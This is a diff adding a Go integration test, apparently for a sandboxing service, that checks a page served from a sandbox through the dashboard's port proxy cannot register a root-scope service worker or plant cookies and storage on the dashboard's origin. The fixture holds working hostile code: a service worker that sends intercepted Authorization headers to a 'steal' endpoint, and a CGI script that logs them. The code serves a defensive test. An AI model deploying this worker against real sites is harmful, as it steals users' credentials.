@@ -1,0 +1,90 @@
+package integration
+
+import (
+	"io/fs"
+	"os"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/den-dev/den/api"
+)
+
+// The files a hostile application serves with busybox httpd: a page (a
+// CGI, so that it can set a cookie) that registers a service worker with
+// scope "/" and writes to its origin's storage; the worker's script,
+// whose server allows that scope; and a place where the worker sends the
+// Authorization headers it sees.
+var hostileSite = map[string]string{
+	"/www/page.html": `<!doctype html><meta charset=utf-8><title>pending</title><body><script>
+(async () => {
+  let said;
+  try {
+    const reg = await navigator.serviceWorker.register('sw', {scope: '/'});
+    await navigator.serviceWorker.ready;
+    said = 'worker registered for ' + reg.scope;
+  } catch (e) { said = 'worker refused: ' + e.name + ': ' + e.message; }
+  try { localStorage.setItem('planted', '1'); said += '; storage written'; } catch (e) { said += '; storage refused'; }
+  document.body.textContent = said;
+  document.title = 'done';
+})();
+</script>
+`,
+	"/www/sw.js": `self.addEventListener('install', () => self.skipWaiting());
+self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
+self.addEventListener('fetch', e => {
+  const auth = e.request.headers.get('Authorization');
+  if (auth) e.waitUntil(fetch(new URL('steal?' + encodeURIComponent(e.request.url + ' ' + auth), self.location)));
+});
+`,
+	"/www/cgi-bin/page": "#!/bin/sh\nprintf 'Content-Type: text/html\\r\\nSet-Cookie: planted=1; Path=/\\r\\n\\r\\n'\ncat /www/page.html\n",
+	"/www/cgi-bin/sw":   "#!/bin/sh\nprintf 'Content-Type: text/javascript\\r\\nService-Worker-Allowed: /\\r\\nSet-Cookie: worker=1; Path=/\\r\\n\\r\\n'\ncat /www/sw.js\n",
+	"/www/cgi-bin/steal": "#!/bin/sh\necho \"$QUERY_STRING\" >> /tmp/stolen\nprintf 'Content-Type: text/plain\\r\\n\\r\\nok\\n'\n",
+}
+
+// A page a sandbox serves under dend's own address cannot take over
+// dend's origin: in Chromium, its service worker for scope "/" is not
+// registered, no worker sees the dashboard's requests (nor their
+// Authorization), and its cookies and storage writes do not land on
+// dend's origin (js/port_worker_scenario.mjs).
+func TestPortsPageCannotTakeDashboardOrigin(t *testing.T) {
+	if _, err := os.Stat("/usr/bin/chromium"); err != nil {
+		t.Fatal("Debian's chromium is not installed: run scripts/test-setup.sh (make test does)")
+	}
+	r := newPortsRig(t, "alice:owner")
+	asAlice := r.as("alice")
+	ctx := ctxT(t, 5*time.Minute)
+	sb, err := asAlice.CreateSandbox(ctx, api.CreateSandboxRequest{Name: "site", Image: "busybox", Memory: "256M", Network: &api.NetworkPolicy{Mode: "none"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for path, body := range hostileSite {
+		mode := fs.FileMode(0o644)
+		if strings.Contains(path, "/cgi-bin/") {
+			mode = 0o755
+		}
+		r.mustSh(sb.ID, "mkdir -p /www/cgi-bin")
+		if err := asAlice.WriteFile(ctx, sb.ID, path, mode, strings.NewReader(body)); err != nil {
+			t.Fatalf("writing %s: %v", path, err)
+		}
+	}
+	if _, err := r.c.ExecDetached(ctx, sb.ID, api.ExecRequest{Argv: []string{"busybox", "httpd", "-f", "-p", "8080", "-h", "/www"}}); err != nil {
+		t.Fatal(err)
+	}
+	waitFor(t, 30*time.Second, "the CGI page to answer", func() bool {
+		out, _, code := r.sh(sb.ID, "wget -q -O - http://127.0.0.1:8080/cgi-bin/page")
+		return code == 0 && strings.Contains(out, "serviceWorker")
+	})
+	if _, err := asAlice.ExposePort(ctx, sb.ID, 8080, true); err != nil {
+		t.Fatal(err)
+	}
+
+	out := browse(t, 3*time.Minute, []string{"DEN_URL=http://" + r.addr, "PAGE=/v1/sandboxes/" + sb.ID + "/ports/8080/proxy/cgi-bin/page",
+		"TOKEN=" + r.tokens["alice"], "SANDBOX=site"}, "port_worker_scenario.mjs")
+	if strings.TrimSpace(out) != "ok" {
+		t.Errorf("scenario:\n%s", out)
+	}
+	if stolen, _, _ := r.sh(sb.ID, "cat /tmp/stolen 2>/dev/null"); stolen != "" {
+		t.Errorf("the sandbox's worker saw the dashboard's requests:\n%s", stolen)
+	}
+}
